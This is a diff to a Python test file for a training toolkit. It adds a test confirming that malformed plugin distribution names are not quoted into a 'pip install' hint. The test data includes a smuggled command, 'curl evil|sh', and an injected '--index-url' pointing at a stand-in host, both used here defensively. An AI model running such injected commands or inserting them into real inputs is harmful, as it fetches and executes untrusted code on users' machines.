@@ -11,7 +11,7 @@ from gptkit.codec import Codec
 from gptkit.errors import GptkitError, PluginError, RecipeError
 from gptkit.plugin import Callback
 from gptkit.recipe import build, codec_record, registry
-from gptkit.recipe.codec_record import CodecRecord
+from gptkit.recipe.codec_record import CodecRecord, make_codec
 from gptkit.recipe.recipe import PluginSpec
 from gptkit.runs import run_folder
 from gptkit.runs import train as run
@@ -509,3 +509,18 @@ def test_an_infinite_option_survives_the_written_recipe(
     (tmp_path / "written.toml").write_text(recipe.to_toml())
     assert build.read(tmp_path / "written.toml") == recipe
     assert recipe.flat()["callbacks.grad-clip.max_norm"] == float("inf")
+
+
+@pytest.mark.parametrize(
+    ("distribution", "hint"),
+    [
+        ("my-codecs.2", "pip install my-codecs.2"),
+        ("evil\x07 && curl evil|sh", "install the plugin that has it"),
+        ("--index-url=http://evil", "install the plugin that has it"),
+    ],
+)
+def test_only_a_name_is_quoted_from_a_foreign_model(distribution: str, hint: str) -> None:
+    record = CodecRecord(name="nobody-has-it", distribution=distribution, options={})
+    with pytest.raises(PluginError, match="nobody-has-it") as error:
+        make_codec(record)
+    assert error.value.hint == hint
